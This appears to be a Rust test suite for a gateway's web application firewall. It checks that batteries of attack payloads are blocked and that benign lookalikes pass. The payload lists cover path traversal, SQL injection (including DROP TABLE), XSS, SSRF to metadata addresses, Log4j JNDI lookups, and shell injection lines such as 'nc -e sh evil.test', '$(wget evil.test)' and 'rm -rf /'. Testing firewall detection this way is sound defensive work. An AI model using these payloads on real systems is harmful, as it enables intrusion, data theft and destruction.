use http::{HeaderValue, header::HeaderName};

use super::{
    signatures::{Spelling, internal_host, strip_port},
    *,
};

fn policy(waf: RouteWaf) -> RouteWafPolicy {
    let mut route: RouteConfig =
        toml::from_str("name = \"api\"\npath_prefix = \"/\"\nupstream = \"fleet\"\n")
            .expect("route");
    route.waf = waf;
    Waf::new(&[route]).routes.remove("api").expect("policy")
}

fn map(headers: &[(&str, &str)]) -> HeaderMap {
    let mut map = HeaderMap::new();
    for (name, value) in headers {
        map.append(
            HeaderName::try_from(*name).expect("name"),
            HeaderValue::from_str(value).expect("value"),
        );
    }
    map
}

fn head_check(
    policy: &RouteWafPolicy,
    target: &str,
    headers: &[(&str, &str)],
) -> Result<(), Verdict> {
    let (path, query) = match target.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (target, None),
    };
    let map = map(headers);
    policy.check_head(
        "api",
        &Head {
            method: &Method::GET,
            path,
            query,
            headers: &map,
        },
    )
}

fn body_check(policy: &RouteWafPolicy, content_type: &str, body: &str) -> Result<(), Verdict> {
    body_bytes_check(policy, content_type, body.as_bytes())
}

fn body_bytes_check(
    policy: &RouteWafPolicy,
    content_type: &str,
    body: &[u8],
) -> Result<(), Verdict> {
    let mut map = HeaderMap::new();
    map.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_str(content_type).expect("value"),
    );
    policy.check_body(
        "api",
        &Head {
            method: &Method::POST,
            path: "/",
            query: None,
            headers: &map,
        },
        &Bytes::copy_from_slice(body),
    )
}

fn blocked_by(result: Result<(), Verdict>) -> Option<String> {
    match result {
        Err(Verdict::Block { rule, .. }) => Some(rule),
        _ => None,
    }
}

/// Attacks in the request target: (target, expected rule class prefix).
const TARGET_ATTACKS: &[(&str, &str)] = &[
    ("/files/../../etc/passwd", "traversal"),
    ("/files/%2e%2e/%2e%2e/etc/passwd", "traversal"),
    ("/files/%252e%252e%252fsecret", "traversal"),
    ("/files/%25252e%25252e%25252fsecret", "traversal"),
    ("/files/%c0%ae%c0%ae/secret", "traversal"),
    ("/files/%e0%80%ae%e0%80%ae/secret", "traversal"),
    ("/download?file=../../../../etc/shadow", "traversal"),
    ("/download?file=..%2f..%2fboot.ini", "traversal"),
    ("/download?file=..\\..\\windows\\win.ini", "traversal"),
    ("/download?file=%2e%2e%5c%2e%2e%5cconfig", "traversal"),
    ("/download?file=/proc/self/environ", "traversal"),
    ("/download?file=%c0%af%c0%afetc", "traversal"),
    (
        "/items?id=1%20UNION%20SELECT%20password%20FROM%20users",
        "sqli",
    ),
    ("/items?id=1+union+all+select+1,2,3", "sqli"),
    ("/items?id=1/**/UNION/**/SELECT/**/1", "sqli"),
    ("/login?user=admin'--", "sqli"),
    ("/login?user=admin'%20or%20'1'='1", "sqli"),
    ("/login?user=x'%20OR%201=1--", "sqli"),
    ("/items?id=1%20or%201=1", "sqli"),
    ("/items?id=1;%20DROP%20TABLE%20users", "sqli"),
    ("/items?id=1;delete%20from%20accounts", "sqli"),
    ("/items?id=1'%20AND%20SLEEP(5)%23", "sqli"),
    ("/items?id=1%20and%20benchmark(1000000,md5(1))", "sqli"),
    ("/items?id=1;%20WAITFOR%20DELAY%20'0:0:5'", "sqli"),
    (
        "/items?q=select%20*%20from%20information_schema.tables",
        "sqli",
    ),
    (
        "/items?id=%2531%2527%2520or%2520%25271%2527%253d%25271",
        "sqli",
    ),
    ("/search?q=<script>alert(1)</script>", "xss"),
    (
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "xss",
    ),
    ("/search?q=<img%20src=x%20onerror=alert(1)>", "xss"),
    ("/search?q=<svg/onload=alert(1)>", "xss"),
    ("/search?q=<body%20onload=alert(1)>", "xss"),
    ("/search?q=javascript:alert(1)", "xss"),
    ("/search?q=<iframe%20src=//evil.test>", "xss"),
    ("/search?q=%253Cscript%253E", "xss"),
    ("/search?q=data:text/html;base64,PHNjcmlwdD4=", "xss"),
    ("/ping?host=127.0.0.1;cat%20/etc/hosts", "traversal"),
    ("/ping?host=127.0.0.1;%20whoami", "cmdi"),
    ("/ping?host=127.0.0.1|id", "cmdi"),
    ("/ping?host=127.0.0.1%26%26curl%20evil.test", "cmdi"),
    ("/ping?host=$(wget%20evil.test)", "cmdi"),
    ("/ping?host=`uname%20-a`", "cmdi"),
    ("/ping?host=x${IFS}cat${IFS}secret", "cmdi"),
    ("/ping?host=x||nc%20-e%20sh%20evil.test", "cmdi"),
];

const HEADER_ATTACKS: &[(&str, &str)] = &[
    ("user-agent", "' or 1=1--"),
    ("referer", "https://x.test/?q=<script>alert(1)</script>"),
    ("x-forwarded-host", "../../etc/passwd"),
    ("cookie", "session=1' UNION SELECT password FROM users--"),
    ("cookie", "id=1; DROP TABLE keys"),
    ("x-api-version", "1; cat /etc/hosts"),
];

const BODY_ATTACKS: &[(&str, &str)] = &[
    ("application/json", r#"{"name": "x' OR '1'='1"}"#),
    (
        "application/json",
        r#"{"items": [{"q": "1 UNION SELECT card FROM payments"}]}"#,
    ),
    ("application/json", r#"{"bio": "<script>steal()</script>"}"#),
    ("application/json", r#"{"path": "../../../etc/passwd"}"#),
    ("application/json", r#"{"host": "8.8.8.8; rm -rf /"}"#),
    (
        "application/x-www-form-urlencoded",
        "user=admin%27--&pass=x",
    ),
    (
        "application/x-www-form-urlencoded",
        "comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    ),
    ("text/plain", "<iframe src=//evil.test></iframe>"),
];

#[test]
fn attack_battery_is_blocked() {
    let waf = policy(RouteWaf::default());
    let mut count = 0;
    for (target, class) in TARGET_ATTACKS {
        let rule = blocked_by(head_check(&waf, target, &[]))
            .unwrap_or_else(|| panic!("not blocked: {target}"));
        assert!(
            rule.starts_with(class),
            "{target} blocked by {rule}, expected {class}"
        );
        count += 1;
    }
    for (name, value) in HEADER_ATTACKS {
        assert!(
            blocked_by(head_check(&waf, "/", &[(name, value)])).is_some(),
            "not blocked: {name}: {value}"
        );
        count += 1;
    }
    for (content_type, body) in BODY_ATTACKS {
        assert!(
            blocked_by(body_check(&waf, content_type, body)).is_some(),
            "not blocked: {body}"
        );
        count += 1;
    }
    assert!(count >= 50, "only {count} attack payloads");
}

#[test]
fn benign_lookalikes_pass() {
    let html = policy(RouteWaf {
        renders_html: true,
        ..RouteWaf::default()
    });
    let api = policy(RouteWaf::default());
    let targets = [
        "/search?q=select%20shoes",
        "/search?q=select+shoes+for+running",
        "/search?q=union+station+opening+hours",
        "/search?q=drop+shipping",
        "/people?name=O'Brien",
        "/people?name=O%27Brien",
        "/versions?range=1..5",
        "/versions?range=v1.2..v1.4",
        "/notes?text=wait...what",
        "/search?q=rock+%27n%27+roll",
        "/search?q=cats+%26+dogs",
        "/search?q=fish+and+chips+%3D+dinner",
        "/search?q=id",
        "/files/report..final.pdf",
        "/search?q=1%2B1%3D2",
        "/search?q=percent+100%25",
        "/search?q=C%2B%2B+%26+Rust",
        "/a/b/c.json?sort=-created_at&page=2",
        "/search?q=email%40example.com",
        "/search?q=sleep+apnea",
    ];
    for target in targets {
        assert_eq!(head_check(&html, target, &[]), Ok(()), "{target}");
    }
    let headers = [
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("authorization", "Bearer ' or 1=1--"),
        ("cookie", "theme=dark; lang=en"),
    ];
    assert_eq!(head_check(&html, "/", &headers), Ok(()));
    for body in [
        r#"{"name": "O'Brien", "city": "Dún Laoghaire"}"#,
        r#"{"query": "select shoes", "size": 42}"#,
        r#"{"comment": "I <3 this; works great -- really"}"#,
        r#"{"title": "Use <b>bold</b> sparingly"}"#,
    ] {
        assert_eq!(body_check(&api, "application/json", body), Ok(()), "{body}");
    }
    assert_eq!(
        body_check(
            &api,
            "application/x-www-form-urlencoded",
            "name=O%27Brien&q=select+shoes"
        ),
        Ok(())
    );
    // The same <b> is an attack where the route renders HTML.
    assert_eq!(
        blocked_by(body_check(
            &html,
            "application/json",
            r#"{"title": "<b>hi</b>"}"#
        ))
        .as_deref(),
        Some("xss-005")
    );
}

#[test]
fn monitor_mode_and_rule_modes_pass_but_block_mode_blocks() {
    let monitor = policy(RouteWaf {
        mode: WafMode::Monitor,
        ..RouteWaf::default()
    });
    assert_eq!(head_check(&monitor, "/?q=<script>", &[]), Ok(()));
    let mut rule_modes = BTreeMap::new();
    rule_modes.insert("xss-001".to_owned(), WafMode::Monitor);
    let mixed = policy(RouteWaf {
        rule_modes,
        disabled_rules: vec!["sqli-003".to_owned()],
        ..RouteWaf::default()
    });
    assert_eq!(head_check(&mixed, "/?q=<script%20src=x", &[]), Ok(()));
    assert_eq!(head_check(&mixed, "/?q=admin'--", &[]), Ok(()));
    assert!(blocked_by(head_check(&mixed, "/?q=javascript:x", &[])).is_some());
}

#[test]
fn smuggling_shapes_are_anomalies() {
    for headers in [
        vec![("content-length", "5"), ("transfer-encoding", "chunked")],
        vec![("content-length", "5"), ("content-length", "6")],
        vec![("transfer-encoding", "chunked, identity")],
        vec![("transfer-encoding", "xchunked")],
        vec![
            ("transfer-encoding", "chunked"),
            ("transfer-encoding", "chunked"),
        ],
    ] {
        assert!(
            matches!(check_protocol(&map(&headers)), Err(Verdict::Anomaly(_))),
            "{headers:?}"
        );
    }
    assert_eq!(
        check_protocol(&map(&[("transfer-encoding", "chunked")])),
        Ok(())
    );
    assert_eq!(check_protocol(&map(&[("content-length", "5")])), Ok(()));
}

#[test]
fn content_types_and_custom_rules() {
    let waf = policy(RouteWaf {
        content_types: vec!["application/json".to_owned()],
        rules: vec![
            CustomRule {
                id: "no-old-clients".to_owned(),
                field: "header:user-agent".to_owned(),
                operator: Operator::Regex,
                value: "^OldClient/[0-2]\\.".to_owned(),
                action: WafMode::Block,
            },
            CustomRule {
                id: "no-debug".to_owned(),
                field: "query".to_owned(),
                operator: Operator::Contains,
                value: "debug=1".to_owned(),
                action: WafMode::Block,
            },
        ],
        ..RouteWaf::default()
    });
    assert_eq!(
        head_check(
            &waf,
            "/",
            &[("content-length", "2"), ("content-type", "text/xml")]
        ),
        Err(Verdict::ContentType("text/xml".to_owned()))
    );
    assert_eq!(
        head_check(
            &waf,
            "/",
            &[
                ("content-length", "2"),
                ("content-type", "application/json; charset=utf-8")
            ]
        ),
        Ok(())
    );
    assert_eq!(
        blocked_by(head_check(&waf, "/", &[("user-agent", "OldClient/1.9")])).as_deref(),
        Some("no-old-clients")
    );
    assert_eq!(
        head_check(&waf, "/", &[("user-agent", "OldClient/3.0")]),
        Ok(())
    );
    assert_eq!(
        blocked_by(head_check(&waf, "/?a=b&debug=1", &[])).as_deref(),
        Some("no-debug")
    );
}

#[test]
fn json_schema_failures_name_the_path() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("person.json");
    std::fs::write(
        &path,
        r#"{"type": "object", "required": ["name"], "properties": {"name": {"type": "string"}, "tags": {"type": "array", "items": {"type": "string"}}}}"#,
    )
    .expect("schema file");
    let waf = policy(RouteWaf {
        json_schema: Some(path),
        renders_html: false,
        ..RouteWaf::default()
    });
    assert!(waf.needs_whole_body());
    assert_eq!(
        body_check(
            &waf,
            "application/json",
            r#"{"name": "O'Brien", "tags": ["a"]}"#
        ),
        Ok(())
    );
    match body_check(
        &waf,
        "application/json",
        r#"{"name": "x", "tags": ["a", 7]}"#,
    ) {
        Err(Verdict::Schema { path, message }) => {
            assert_eq!(path, "/tags/1");
            assert!(message.contains("string"), "{message}");
        }
        other => panic!("expected a schema failure, got {other:?}"),
    }
    assert!(matches!(
        body_check(&waf, "application/json", "{\"tags\": []}"),
        Err(Verdict::Schema { .. })
    ));
    assert!(matches!(
        body_check(&waf, "application/json", "not json"),
        Err(Verdict::Schema { path, .. }) if path.is_empty()
    ));
    let problems = RouteWaf {
        json_schema: Some(dir.path().join("missing.json")),
        ..RouteWaf::default()
    }
    .problems("route[0].waf");
    assert!(
        problems[0].starts_with("route[0].waf.json_schema: cannot read"),
        "{problems:?}"
    );
}

// ---- The decode chain --------------------------------------------------------

fn views(raw: &str, form: bool) -> Vec<String> {
    decode::decode(raw.as_bytes(), form)
        .views()
        .map(str::to_owned)
        .collect()
}

/// Each `(raw, decoded)` pair through the chain (form data when `form`).
fn assert_decodes(form: bool, cases: &[(&str, &str)]) {
    for (raw, want) in cases {
        assert_eq!(views(raw, form)[0], *want, "{raw}");
    }
}

#[test]
fn percent_decoding_repeats_until_stable_but_is_bounded() {
    assert_decodes(
        false,
        &[
            ("%2e%2e%2f", "../"),
            ("%252e%252e%252f", "../"),
            ("%2525252e", "."),
            // Six layers: one more than the bound, so one `%25` stays.
            ("%25252525252e", "%2e"),
            ("100%", "100%"),
            ("%zz%4", "%zz%4"),
        ],
    );
    // Overlong UTF-8 survives as bytes for the overlong check.
    assert_eq!(*decode::decode(b"%c0%ae", false).bytes, [0xC0, 0xAE]);
}

#[test]
fn plus_is_a_space_in_forms_only_and_only_before_decoding() {
    assert_decodes(true, &[("a+b", "a b"), ("1%2B1", "1+1")]);
    assert_decodes(false, &[("a+b", "a+b")]);
}

#[test]
fn unicode_escapes_json_escapes_and_entities_decode() {
    assert_decodes(
        false,
        &[
            ("%u003cscript%u003e", "<script>"),
            ("\\u003Cscript\\u003E", "<script>"),
            ("\\ud83d\\ude00", "\u{1F600}"),
            ("\\ud83d", "\u{FFFD}"),
            ("java\\tscript", "java\tscript"),
            ("a\\\"b\\/c", "a\"b/c"),
            // `\\` is kept: a UNC path stays one.
            ("\\\\host\\share", "\\\\host\\share"),
            // HTML entities: named, decimal, hex, with and without `;`.
            ("&lt;script&gt;", "<script>"),
            ("&LT;script&GT;", "<script>"),
            ("&ltscript&gt", "<script>"),
            ("&#60;&#x3c;&#X3C;&#060", "<<<<"),
            ("&#106&#97&#118&#97", "java"),
            ("javascript&colon;", "javascript:"),
            ("java&Tab;script", "java\tscript"),
            ("java&NewLine;script", "java\nscript"),
            ("&amp;lt;", "<"),
            ("AT&T", "at&t"),
            ("&#;", "&#;"),
            ("&#x110000;", "\u{FFFD}"),
            // Stacked in any order: percent over entity, entity over
            // percent, unicode over percent.
            ("%26lt%3Bscript", "<script"),
            ("&#37;3cscript", "<script"),
            ("%5Cu003cscript", "<script"),
            // Folding: case, fullwidth, no-break space, "best fit" slashes.
            ("UNION ＳＥＬＥＣＴ", "union select"),
            ("a\u{a0}b", "a b"),
            ("..%u2215etc", "../etc"),
        ],
    );
}

#[test]
fn sql_view_removes_comments_and_collapses_whitespace() {
    let sql = |raw: &str| views(raw, false).get(1).cloned();
    assert_eq!(
        sql("1/**/union/**/select").as_deref(),
        Some("1 union select")
    );
    assert_eq!(
        sql("1 /*!50000union*/ select").as_deref(),
        Some("1 union select")
    );
    assert_eq!(sql("union#x\nselect").as_deref(), Some("union select"));
    assert_eq!(sql("union--x\nselect").as_deref(), Some("union select"));
    assert_eq!(sql("union\t\n select").as_deref(), Some("union select"));
    // A trailing comment is left for the signatures that look for it.
    assert_eq!(sql("admin'--"), None);
    assert_eq!(sql("plain words"), None);
}

#[test]
fn scheme_view_removes_controls_inside_schemes_only() {
    let scheme = |raw: &str| views(raw, false).last().cloned().unwrap_or_default();
    assert_eq!(scheme("java\tscript:alert(1)"), "javascript:alert(1)");
    assert_eq!(scheme("j\na\rv\u{1}ascript:x"), "javascript:x");
    // Outside a scheme, a newline stays a newline (it separates commands).
    assert_eq!(views("x\ncat /etc/passwd", false)[0], "x\ncat /etc/passwd");
}

// ---- Families ----------------------------------------------------------------

fn query_rule(query: &str) -> Option<String> {
    blocked_by(head_check(
        &policy(RouteWaf::default()),
        &format!("/?{query}"),
        &[],
    ))
}

#[test]
fn every_family_has_its_rules() {
    for (query, family) in [
        ("f=..;/admin", "traversal"),
        ("f=c:%5Cwindows%5Cwin.ini", "traversal"),
        ("f=php://filter/resource=x", "traversal"),
        ("u=http://[::ffff:a9fe:a9fe]/", "ssrf"),
        ("u=http://0251.0376.0251.0376/", "ssrf"),
        ("u=http://2852039166/", "ssrf"),
        ("u=http://fd00:ec2::254/", "ssrf"),
        ("u=gopher://x.test/_", "ssrf"),
        ("h=10.1.2.3", "ssrf"),
        ("h=x%0aid", "cmdi"),
        ("h=x;id", "cmdi"),
        ("h=x%7Cwhoami", "cmdi"),
        ("h=x%26%26id", "cmdi"),
        ("h=x%60id%60", "cmdi"),
        ("h=$(id)", "cmdi"),
        ("h=()%20%7B%20:;%20%7D;%20id", "cmdi"),
        ("c=%3C%3Fphp%20system(1)", "php"),
        ("c=O:4:%22User%22:0:%7B%7D", "php"),
        ("x=java%09script:alert(1)", "xss"),
        ("x=%26%23106;avascript:alert(1)", "xss"),
        ("x=%3Csvg%20onload=alert(1)%3E", "xss"),
        ("x=%3Ciframe%20src=//x%3E", "xss"),
        ("id=1%20or%201=1", "sqli"),
        ("id=1%20or%200x61=0x61", "sqli"),
        ("id=1%20union%20select%200x61", "sqli"),
        (
            "s=(case%20when%20(1=1)%20then%20a%20else%20b%20end)",
            "sqli",
        ),
        ("id=1;waitfor%20delay%20'0:0:5'", "sqli"),
        ("id=1%20and%20pg_sleep(5)", "sqli"),
        ("id=1/**/union/**/select/**/1", "sqli"),
        ("q=${jndi:ldap://x}", "java"),
        ("q=${${lower:j}ndi:ldap://x}", "java"),
        ("q=${${::-j}${::-n}di:x}", "java"),
        ("q=a%00b", "nul"),
    ] {
        let rule = query_rule(query).unwrap_or_else(|| panic!("not blocked: {query}"));
        assert!(
            rule.starts_with(family),
            "{query}: {rule}, expected {family}"
        );
    }
}

#[test]
fn ssrf_hosts_in_every_spelling() {
    for host in [
        "169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "0xa9.0xfe.0xa9.0xfe",
        "0251.0376.0251.0376",
        "169.254.43518",
        "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]",
        "[fd00:ec2::254]",
        "metadata.google.internal",
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "localhost",
        "app.localhost",
        "[::1]",
        "[::]",
        "0.0.0.0",
        "0",
        "10.0.0.1",
        "172.31.255.255",
        "192.168.0.1",
        "169.254.0.1",
        "[fe80::1%25eth0]",
        "[fc00::1]",
        "[64:ff9b::7f00:1]",
        "10.0.0.1.nip.io",
        "127-0-0-1.sslip.io",
        "x.localtest.me",
    ] {
        assert!(
            internal_host(strip_port(host), Spelling::Url),
            "{host} is internal"
        );
    }
    for host in [
        "example.com",
        "8.8.8.8",
        "198.51.100.7",
        "172.32.0.1",
        "[2001:db8::1]",
        "[::ffff:8.8.8.8]",
        "localhost.example.com",
        "8.8.8.8.nip.io",
    ] {
        assert!(
            !internal_host(strip_port(host), Spelling::Url),
            "{host} is public"
        );
    }
    // Numbers that are only numbers when they are whole values.
    for bare in ["10", "10.5", "127", "2147483647", "0xff00ff"] {
        assert!(!internal_host(bare, Spelling::Bare), "{bare}");
    }
    for bare in ["10.0.0.1", "2852039166", "0x7f000001", "localhost"] {
        assert!(internal_host(bare, Spelling::Bare), "{bare}");
    }
}

#[test]
fn ssrf_private_addresses_pass_in_address_headers() {
    let waf = policy(RouteWaf::default());
    for (name, value) in [
        ("origin", "http://localhost:3000"),
        ("x-forwarded-for", "10.0.0.7"),
        ("referer", "http://127.0.0.1:8080/"),
        ("forwarded", "for=192.168.1.2"),
    ] {
        assert_eq!(head_check(&waf, "/", &[(name, value)]), Ok(()), "{name}");
    }
    // The metadata service and dangerous schemes are refused in any header.
    assert!(
        blocked_by(head_check(
            &waf,
            "/",
            &[("origin", "http://169.254.169.254")]
        ))
        .is_some()
    );
    assert!(blocked_by(head_check(&waf, "/", &[("x-target", "http://127.0.0.1/")])).is_some());
}

#[test]
fn jndi_lookups_resolve_like_log4j() {
    let hit = |text: &str| {
        signatures::matches(&decode::decode(text.as_bytes(), false), Place::QUERY)
            .iter()
            .any(|rule| rule.id == "java-001")
    };
    for attack in [
        "${jndi:ldap://x/a}",
        "${${lower:j}ndi:ldap://x}",
        "${${upper:j}${upper:n}${lower:d}i:x}",
        "${${::-j}${::-n}${::-d}${::-i}:x}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}x}",
        "${j${k8s:k5:-ND}i:x}",
        "${jn${date:}di:x}",
        "${${date:'j'}ndi:x}",
        "${ jndi :x}",
        "x}${jndi:x}",
    ] {
        assert!(hit(attack), "{attack}");
    }
    for benign in [
        "${HOME}",
        "${PORT:-8080}",
        "price ${amount}",
        "{jndi:x}",
        "$jndi:x",
    ] {
        assert!(!hit(benign), "{benign}");
    }
}

#[test]
fn headers_get_only_the_families_that_apply_to_headers() {
    let waf = policy(RouteWaf::default());
    // SQLi and XSS in an arbitrary header are left to the application…
    assert_eq!(head_check(&waf, "/", &[("x-note", "' or 1=1--")]), Ok(()));
    assert_eq!(head_check(&waf, "/", &[("x-note", "<script>")]), Ok(()));
    // …but not in the headers that carry data, and RCE, JNDI, SSRF,
    // traversal and NUL are refused in any header.
    for (name, value) in [
        ("cookie", "a=' or 1=1--"),
        ("user-agent", "<script>alert(1)</script>"),
        ("x-note", "() { :; }; id"),
        ("x-note", "${jndi:ldap://x}"),
        ("x-note", "http://169.254.169.254/"),
        ("x-note", "../../etc/passwd"),
        ("x-note", "a%00b"),
        ("x-note", "x; cat /etc/hosts"),
    ] {
        assert!(
            blocked_by(head_check(&waf, "/", &[(name, value)])).is_some(),
            "{name}: {value}"
        );
    }
    // Credentials are not inspected.
    assert_eq!(
        head_check(&waf, "/", &[("authorization", "Basic ${jndi:x}; id")]),
        Ok(())
    );
}

#[test]
fn protocol_rules() {
    let waf = policy(RouteWaf::default());
    for (target, headers) in [
        ("/", vec![("content-type", "text/html; charset=utf-7")]),
        ("/", vec![("range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11")]),
        ("/", vec![("proxy", "http://x.test")]),
        ("/app/config.php.bak", vec![]),
        ("/app/index.php~", vec![]),
    ] {
        let rule = blocked_by(head_check(&waf, target, &headers))
            .unwrap_or_else(|| panic!("not blocked: {target} {headers:?}"));
        assert!(rule.starts_with("protocol-"), "{rule}");
    }
    for (target, headers) in [
        (
            "/",
            vec![("content-type", "application/json; charset=UTF-8")],
        ),
        ("/", vec![("range", "bytes=0-1023")]),
        ("/docs/backup.html", vec![]),
    ] {
        assert_eq!(head_check(&waf, target, &headers), Ok(()), "{target}");
    }
    let off = policy(RouteWaf {
        disabled_rules: vec!["protocol-004".to_owned()],
        ..RouteWaf::default()
    });
    assert_eq!(head_check(&off, "/a.bak", &[]), Ok(()));
    assert!(is_builtin("protocol-004") && is_builtin("ssrf-003") && !is_builtin("ssrf-999"));
}

#[test]
fn bodies_are_parsed_whatever_the_declared_type() {
    let waf = policy(RouteWaf::default());
    // JSON under text/plain, nested, with the attack in a key.
    for (content_type, body) in [
        ("text/plain", r#"{"a":{"b":["x' or '1'='1"]}}"#),
        ("application/json", r#"{"<script>":1}"#),
        ("application/octet-stream", "x=${jndi:ldap://x}"),
        ("", "q=1+union+select+1"),
    ] {
        assert!(
            blocked_by(body_check(&waf, content_type, body)).is_some(),
            "{content_type}: {body}"
        );
    }
    // Real binary under a binary type is skipped (it holds NULs).
    assert_eq!(
        body_bytes_check(&waf, "image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfe"),
        Ok(())
    );
    // The same NUL in text under that type is not.
    assert!(blocked_by(body_check(&waf, "image/png", "a\u{0}b")).is_some());
}

// ---- The corpora -------------------------------------------------------------

const ATTACKS: &str = include_str!("../../../../tests/corpus/attacks.txt");
const BENIGN: &str = include_str!("../../../../tests/corpus/benign.txt");

/// A corpus line: family, location, payload.
fn corpus(text: &str) -> impl Iterator<Item = (&str, &str, &str)> {
    text.lines()
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| {
            let mut fields = line.splitn(3, '\t');
            let (Some(family), Some(location), Some(payload)) =
                (fields.next(), fields.next(), fields.next())
            else {
                panic!("bad corpus line: {line:?}");
            };
            (family, location, payload)
        })
}

/// What the gateway answers a corpus case with, up to the WAF: `Ok` passes,
/// otherwise the rule (or the reason the path was refused).
fn verdict(waf: &RouteWafPolicy, location: &str, payload: &str) -> Result<(), String> {
    let result = match location {
        "path" => match crate::proxy::normalize::normalize_path(payload) {
            Ok(path) => head_check(waf, &path, &[]),
            Err(err) => return Err(format!("path refused: {err}")),
        },
        "query" => head_check(waf, &format!("/search?{payload}"), &[]),
        "form" => body_check(waf, "application/x-www-form-urlencoded", payload),
        "json" => body_check(waf, "application/json", payload),
        "text" => body_check(waf, "text/plain", payload),
        other => {
            let name = other
                .strip_prefix("header:")
                .unwrap_or_else(|| panic!("unknown location {other}"));
            head_check(waf, "/", &[(name, payload)])
        }
    };
    result.map_err(|verdict| match verdict {
        Verdict::Block { rule, .. } => rule,
        other => format!("{other:?}"),
    })
}

#[test]
fn attack_corpus_is_blocked_and_benign_corpus_passes() {
    let waf = policy(RouteWaf::default());
    let mut counts: BTreeMap<&str, [usize; 5]> = BTreeMap::new();
    let mut missed = Vec::new();
    let mut false_positives = Vec::new();
    for (family, location, payload) in corpus(ATTACKS) {
        let entry = counts.entry(family).or_default();
        entry[0] += 1;
        match verdict(&waf, location, payload) {
            Ok(()) => missed.push(format!("{family} {location} {payload}")),
            Err(rule) if rule.starts_with(family) => entry[1] += 1,
            Err(rule) => {
                entry[2] += 1;
                println!("{family} caught by {rule}: {location} {payload}");
            }
        }
    }
    for (family, location, payload) in corpus(BENIGN) {
        let entry = counts.entry(family).or_default();
        entry[3] += 1;
        if let Err(rule) = verdict(&waf, location, payload) {
            entry[4] += 1;
            false_positives.push(format!("{family} {location} {payload} → {rule}"));
        }
    }
    println!("family     attacks  by-family  by-other  benign  false-positives");
    for (family, [attacks, own, other, benign, fp]) in &counts {
        println!("{family:<10} {attacks:>7}  {own:>9}  {other:>8}  {benign:>6}  {fp:>15}");
    }
    let attacks: usize = counts.values().map(|c| c[0]).sum();
    let benign: usize = counts.values().map(|c| c[3]).sum();
    assert!(attacks >= 250, "only {attacks} attacks");
    assert!(benign >= 100, "only {benign} benign cases");
    assert!(
        missed.is_empty() && false_positives.is_empty(),
        "{} missed:\n{}\n{} false positives:\n{}",
        missed.len(),
        missed.join("\n"),
        false_positives.len(),
        false_positives.join("\n")
    );
}

/// The WAF's own cost per request, in process: a browser-like head (path,
/// three query parameters, twelve headers) and a 1 KiB JSON body. Run with
/// `cargo test -p gateway --release --lib inspection_cost -- --ignored
/// --nocapture`; a measurement, so it asserts nothing about time.
#[test]
#[ignore = "a measurement, not a check"]
fn inspection_cost() {
    let waf = policy(RouteWaf::default());
    let headers = [
        ("host", "api.test"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("accept-language", "en-US,en;q=0.9"),
        ("accept-encoding", "gzip, deflate, br"),
        ("referer", "https://www.example.com/search?q=rust+waf"),
        (
            "cookie",
            "theme=dark; lang=en; session=eyJhbGciOiJIUzI1NiJ9.e30.abc",
        ),
        ("cache-control", "no-cache"),
        ("x-request-id", "4278add6-0c1e-4b57-9a4e-2f0e6c1d7b3a"),
        ("sec-fetch-mode", "navigate"),
        ("content-type", "application/json"),
        ("origin", "https://www.example.com"),
    ];
    let body = format!(
        r#"{{"name":"O'Brien","items":[{}],"note":"select a seat from row 5"}}"#,
        (0..20)
            .map(|i| format!(
                r#"{{"sku":"A-{i:04}","qty":{i},"url":"https://cdn.example.com/{i}.png"}}"#
            ))
            .collect::<Vec<_>>()
            .join(",")
    );
    let rounds = 2_000;
    let started = std::time::Instant::now();
    for _ in 0..rounds {
        assert_eq!(
            head_check(
                &waf,
                "/api/v1/orders?page=2&sort=-created_at&q=red+shoes",
                &headers
            ),
            Ok(())
        );
    }
    let head = started.elapsed() / rounds;
    let started = std::time::Instant::now();
    for _ in 0..rounds {
        assert_eq!(body_check(&waf, "application/json", &body), Ok(()));
    }
    let per_body = started.elapsed() / rounds;
    println!(
        "WAF per request: head {head:?}, JSON body of {} bytes {per_body:?}",
        body.len()
    );
}
